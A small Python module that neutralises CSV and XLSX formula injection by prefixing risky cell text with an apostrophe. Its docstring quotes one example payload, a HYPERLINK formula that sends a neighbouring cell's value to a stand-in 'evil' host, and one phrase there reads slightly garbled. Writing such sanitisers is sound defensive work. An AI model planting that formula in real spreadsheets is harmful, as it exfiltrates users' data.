"""Values written into CSV and XLSX files that people open in a spreadsheet.

A cell whose text starts with = + - @ (or a tab or carriage return before them) is run as a
formula by Excel, LibreOffice and Google Sheets: `=HYPERLINK("http://evil/?"&A2)` sends a
neighbouring No. KK away when clicked. Such text is written with a leading apostrophe, which the
spreadsheet shows as plain text (OWASP, "CSV injection"). Numbers and dates are left as they are.
"""

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(values: Any) -> list[Any]:
    return [safe_cell(v) for v in values]
